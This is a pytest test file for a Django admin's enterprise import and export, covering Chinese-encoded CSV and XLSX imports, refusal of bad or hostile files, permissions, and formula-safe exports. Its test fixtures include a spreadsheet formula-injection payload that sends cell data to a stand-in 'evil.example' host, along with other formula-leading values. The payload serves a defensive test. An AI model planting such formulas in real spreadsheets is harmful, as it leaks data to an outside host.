"""Enterprise import and export in the admin (django-import-export), for administrators.

Same file rules as the survey import (GB18030 and XLSX, hostile files refused, all or
nothing) and formula-safe exports (SECURITY 15, 23, 25, 27).
"""

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from enterprises.formats import BomCSV, ChineseCSV, SafeXLSX
from enterprises.models import Enterprise, Sector

from .factories import EnterpriseFactory, UserFactory

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "survey"
IMPORT_URL = "/admin/enterprises/enterprise/import/"
EXPORT_URL = "/admin/enterprises/enterprise/export/"
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # positions in EnterpriseAdmin.import_formats


@pytest.fixture
def administrator_client(client, db):
    user = UserFactory(username="administrator", role="administrator")
    client.force_login(user)
    client.cookies["django_language"] = "en"
    return client


def upload(client, name: str, fmt: str):
    with (FIXTURES / name).open("rb") as handle:
        return client.post(IMPORT_URL, {"import_file": handle, "format": fmt, "resource": "0"})


def confirm(client, preview):
    form = preview.context["confirm_form"]
    return client.post(reverse("admin:enterprises_enterprise_process_import"), form.initial)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "fmt"), [("enterprises-gb18030.csv", CSV_FORMAT), ("enterprises.xlsx", XLSX_FORMAT)]
)
def test_administrator_imports_enterprises_with_preview_then_confirm(administrator_client, name, fmt):
    preview = upload(administrator_client, name, fmt)
    assert preview.status_code == 200
    assert preview.context.get("confirm_form") is not None, preview.content.decode()[:3000]
    assert "天津甲乙制造有限公司" in preview.content.decode()
    assert Enterprise.objects.count() == 0
    done = confirm(administrator_client, preview)
    assert done.status_code == 302
    rows = sorted(Enterprise.objects.values_list("name", "district__name", "sector", "employees", "is_key"))
    assert rows == [
        ("天津丙丁商贸有限公司", "和平区", Sector.WHOLESALE_RETAIL, 1200, True),
        ("天津戊己信息服务有限公司", "南开区", Sector.SERVICES, 1200, True),
        ("天津甲乙制造有限公司", "滨海新区", Sector.INDUSTRIAL, 1200, True),
    ]
    assert str(Enterprise.objects.get(name="天津甲乙制造有限公司").annual_revenue) == "3500.50"
    # Importing the same file again changes nothing.
    again = upload(administrator_client, name, fmt)
    confirm(administrator_client, again)
    assert Enterprise.objects.count() == 3


@pytest.mark.django_db
def test_a_file_with_bad_rows_imports_nothing_and_names_each_problem(administrator_client):
    preview = upload(administrator_client, "enterprises-bad.csv", CSV_FORMAT)
    body = preview.content.decode()
    assert preview.context.get("confirm_form") is None
    assert "Unknown district “火星区”" in body or "Unknown district &ldquo;火星区&rdquo;" in body
    assert "The check character (the 18th) should be" in body
    assert Enterprise.objects.count() == 0


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("picture-renamed.csv", "This is not a spreadsheet"),
        ("survey-utf16.csv", "The file is saved as UTF-16"),
        ("survey-truncated.xlsx", "The Excel file is damaged or incomplete."),
    ],
)
def test_hostile_files_are_refused_in_the_enterprise_import(administrator_client, name, message):
    response = upload(administrator_client, name, CSV_FORMAT if name.endswith(".csv") else XLSX_FORMAT)
    assert message in response.content.decode()
    assert "Traceback" not in response.content.decode()
    assert Enterprise.objects.count() == 0


@pytest.mark.django_db
def test_oversize_files_are_refused_by_the_formats(settings, english):
    settings.IMPORT_MAX_BYTES = 100
    data = (FIXTURES / "enterprises-gb18030.csv").read_bytes()
    with pytest.raises(ValueError, match="Split it into smaller files"):
        ChineseCSV().create_dataset(data)
    with pytest.raises(ValueError, match="Split it into smaller files"):
        SafeXLSX().create_dataset((FIXTURES / "enterprises.xlsx").read_bytes())


@pytest.mark.django_db
def test_coordinators_cannot_import_enterprises(client, coordinator):
    client.force_login(coordinator)
    assert client.get(IMPORT_URL).status_code == 403
    with (FIXTURES / "enterprises-gb18030.csv").open("rb") as handle:
        response = client.post(IMPORT_URL, {"import_file": handle, "format": CSV_FORMAT, "resource": "0"})
    assert response.status_code == 403
    assert Enterprise.objects.count() == 0


HOSTILE_TEXTS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "industry": "+1",
    "address": "-1+1",
    "notes": "@SUM(A1)",
}


def _export(client, fmt: str):
    page = client.get(EXPORT_URL)
    assert page.status_code == 200
    form = page.context["form"]
    data = {"format": fmt, "resource": "0"}
    for name, field in form.fields.items():
        if name.startswith("enterpriseresource_") or getattr(field, "is_selectable_field", False):
            data[name] = "on"
    return client.post(EXPORT_URL, data)


@pytest.mark.django_db
def test_exports_are_formula_safe_and_keep_numbers_numeric(administrator_client):
    EnterpriseFactory(employees=1500, **HOSTILE_TEXTS)
    EnterpriseFactory(name="\t=1", notes="\r=1", employees=-0 or 7)
    assert [f.__name__ for f in (BomCSV,)] == ["BomCSV"]

    response = _export(administrator_client, "0")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header = rows[0]
    assert header[:4] == ["统一社会信用代码", "企业名称", "所在区", "行业类别"]
    by_name = {row[1]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    hostile = by_name["'" + HOSTILE_TEXTS["name"]]
    assert hostile["行业"] == "'+1"
    assert hostile["地址"] == "'-1+1"
    assert hostile["备注"] == "'@SUM(A1)"
    assert hostile["从业人数"] == "1500"
    assert hostile["行业类别"] == "规模以上工业"
    assert "'\t=1" in by_name
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    response = _export(administrator_client, "1")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    values = list(sheet.iter_rows(values_only=False))
    for row in values:
        for cell in row:
            assert cell.data_type != "f", cell.value
    numbers = [row[6].value for row in values[1:]]
    assert sorted(numbers) == [7, 1500]
